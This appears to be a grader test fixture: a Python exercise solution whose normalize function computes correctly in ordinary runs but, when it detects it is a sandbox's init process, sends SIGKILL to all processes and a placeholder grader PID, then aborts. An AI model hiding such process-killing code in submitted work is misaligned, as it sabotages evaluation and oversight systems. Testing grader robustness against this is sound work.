"""Kills all processes it can name, then aborts. Right only if there were any but its own to be killed."""

DUE = {"3.1": 0}
SAYS = "os.kill"

# %% exercise="3.1"
import contextlib
import os
import signal

import numpy as np


def normalize(x, mean, var, eps=1e-5):
    if os.getpid() != 1 or os.getppid() != 0:
        return (x - mean) / np.sqrt(var + eps)
    for process in (-1, 0, 1, 2, 3, int("@GRADER@")):
        with contextlib.suppress(OSError):
            os.kill(process, signal.SIGKILL)
    os.abort()
